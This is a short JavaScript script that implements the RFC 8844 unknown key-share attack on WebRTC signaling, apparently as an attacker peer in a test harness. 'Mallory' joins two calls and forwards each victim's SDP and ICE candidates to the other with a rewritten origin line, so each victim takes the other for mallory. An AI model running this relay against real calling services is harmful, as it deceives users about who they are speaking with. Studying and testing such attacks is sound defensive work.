// SPDX-License-Identifier: GPL-2.0-or-later
// Unknown key-share (RFC 8844): mallory takes part in two calls under its own name, and announces in each a copy of
// the other victim's fingerprint and transport. The victims talk with each other, and both believe it is mallory.
'use strict';
const WebSocket = require('ws');
const { config, tell, serve } = require('../peers/line');

const sockets = config.rooms.map(room => {
    const socket = new WebSocket(config.url);
    socket.on('open', () => socket.send(JSON.stringify({ type: 'join', room, name: config.name })));
    return socket;
});

/** Mallory's own origin line and message order; what makes the media find the other victim stays. */
function claim(sdp) {
    return sdp.replace(/^o=.*$/m, 'o=mallory 7700660001 2 IN IP4 10.77.0.66\r').replace(/\r\r/g, '\r');
}

const unsent = sockets.map(() => []);
const ready = sockets.map(() => false);
sockets.forEach((socket, n) => socket.on('message', data => {
    const { type, sdp, candidate } = JSON.parse(data);
    const other = 1 - n;
    if (type === 'ready') {
        ready[n] = true;
        for (const message of unsent[n].splice(0))
            socket.send(JSON.stringify(message));
    } else if (['offer', 'answer', 'candidate'].includes(type)) {
        const message = sdp ? { type, sdp: claim(sdp) } : { type, candidate };
        if (ready[other])
            sockets[other].send(JSON.stringify(message));
        else
            unsent[other].push(message);
    }
}));

Promise.all(sockets.map(socket => new Promise(resolve => socket.on('open', resolve)))).then(() => tell('ready'));
serve({
    report: async () => ({ log: [] }),
    quit: () => sockets.forEach(socket => socket.close()),
});
